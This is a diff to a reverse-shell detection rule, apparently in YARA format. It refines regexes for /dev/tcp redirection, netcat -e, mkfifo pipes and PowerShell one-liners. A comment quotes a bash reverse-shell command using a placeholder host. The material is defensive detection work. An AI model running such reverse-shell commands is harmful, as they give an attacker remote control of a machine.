@@ -552,7 +552,10 @@ rule reverse_shell_command {
         label = "reverse shell command"
         where = "code"
     strings:
-        $dev_tcp = /\/dev\/(tcp|udp)\/[^\s'"\/]{1,80}\/[0-9{]/
+        // A shell's streams redirected to a socket (bash -i >& /dev/tcp/HOST/PORT 0>&1);
+        // `echo > /dev/tcp/localhost/8080` only probes whether a port is open.
+        $dev_tcp = /(>&|&>|<>)\s{0,3}\/dev\/(tcp|udp)\/[^\s'"\/]{1,80}\/[0-9{]/
+        $dev_tcp_fd = /\/dev\/(tcp|udp)\/[^\s'"\/]{1,80}\/[0-9{][^\n]{0,20}(0>&1|[0-2]?<&1)/
         $nc_exec = /\b(nc|ncat|netcat)(\.exe)?\s([^\n]{0,80}\s)?-e\s{1,4}[^\s]{0,20}(sh|bash|cmd|powershell)\b/
         $mkfifo = /mkfifo\s[^\n]{0,80}\b(nc|ncat|netcat|openssl s_client)\b/
         // The PowerShell one-liner: a TCP client whose stream feeds Invoke-Expression.
